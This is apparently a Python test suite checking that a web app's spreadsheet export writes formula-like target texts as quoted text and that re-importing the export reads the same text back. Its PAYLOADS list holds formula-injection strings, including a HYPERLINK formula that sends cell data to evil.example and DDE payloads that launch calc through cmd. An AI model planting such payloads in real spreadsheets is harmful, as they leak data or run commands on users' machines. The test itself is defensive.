"""Spreadsheet formula injection: whatever a writer stores, an export writes it as text (never a
formula, with Excel's quote prefix when it looks like one), and importing that export reads the
same text back."""

from __future__ import annotations

import io
import zipfile
from typing import Any

from openpyxl import load_workbook

from services.spreadsheets import looks_like_formula
from tests.graph.test_excel import IMPORT_TARGETS, download, targets_of, upload
from tests.support.server import LiveServer

CREATE = """mutation($stt: String!, $text: String!, $q: QuantityInput!) {
  createTarget(input: {unit: "400", year: 2024, category: MODELS, stt: $stt, text: $text,
    quantity: $q, deadline: {kind: DATE, dueOn: "2024-06-30"}}) {
    __typename ... on Target { text } ... on UserError { code message } } }"""

# OWASP's CSV-injection starts, Excel's DDE payloads, and the full-width forms.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Xem chi tiết")',
    '+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1 mô hình",
    "\r=1+1 mô hình",
    "＝1+1 (full-width equals)",
    "＋1+1 (full-width plus)",
    "＠SUM(1) (full-width at)",
    "－1 (full-width minus)",
]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        )


def test_target_texts_that_look_like_formulas_export_as_text_and_import_back(
    fresh_api: LiveServer,
) -> None:
    officer = fresh_api.as_user("hauloc_officer")
    for number, text in enumerate(PAYLOADS, start=1):
        created = officer.graphql(
            CREATE, {"stt": str(number), "text": text, "q": {"kind": "TEXT", "raw": "=1+1"}}
        )["data"]["createTarget"]
        assert created["__typename"] == "Target", created
    stored = {t["stt"]: t for t in targets_of(officer, "400", 2024)}
    assert len(stored) == len(PAYLOADS)

    exported = download(fresh_api, "/exports/targets.xlsx", officer.token, unit="400", year=2024)
    assert exported.status_code == 200, exported.text
    assert "<f>" not in _sheet_xml(exported.content)  # not one formula in the workbook

    sheet = load_workbook(io.BytesIO(exported.content)).active
    seen: dict[str, Any] = {}
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and looks_like_formula(cell.value):
                assert cell.quotePrefix, (cell.coordinate, cell.value)
        if row[0].value in stored:
            seen[row[0].value] = row
    assert set(seen) == set(stored)
    for stt, row in seen.items():
        assert row[1].value == stored[stt]["text"] and row[1].data_type == "s"
        assert row[1].quotePrefix == looks_like_formula(stored[stt]["text"])
        quantity = row[2]
        assert quantity.data_type == "s" and quantity.value == stored[stt]["quantity"]["raw"]
        assert quantity.quotePrefix

    # The round trip: an import of the export reads the very same text.
    dry = upload(officer, IMPORT_TARGETS, {"unit": "400", "year": 2024}, exported.content)
    assert dry["__typename"] == "TargetImport", dry
    read_back = {r["stt"]: r for r in dry["rows"]}
    assert {s: r["text"] for s, r in read_back.items()} == {s: t["text"] for s, t in stored.items()}
    assert {r["quantity"]["raw"] for r in read_back.values()} == {"=1+1"}


def test_a_sheet_typed_with_formula_like_text_imports_as_that_text(fresh_api: LiveServer) -> None:
    """A sheet from an office (cells typed as text, e.g. '=…) keeps its wording on import."""
    from openpyxl import Workbook

    from services.spreadsheets import write_cell

    workbook = Workbook()
    sheet = workbook.active
    for column, label in enumerate(
        ["STT", "DANH MỤC CHỈ TIÊU", "CHỈ TIÊU", "THỜI GIAN HOÀN THÀNH"], start=1
    ):
        write_cell(sheet, 1, column, label)
    write_cell(sheet, 2, 1, "XÂY DỰNG, NHÂN RỘNG MÔ HÌNH")
    for offset, text in enumerate(PAYLOADS[:4]):
        for column, value in enumerate(
            (str(offset + 1), text, "02 mô hình", "Tháng 6/2024"), start=1
        ):
            write_cell(sheet, 3 + offset, column, value)
    out = io.BytesIO()
    workbook.save(out)
    officer = fresh_api.as_user("hauloc_officer")
    dry = upload(officer, IMPORT_TARGETS, {"unit": "400", "year": 2024}, out.getvalue())
    assert dry["errors"] == [], dry
    assert [r["text"] for r in dry["rows"]] == PAYLOADS[:4]
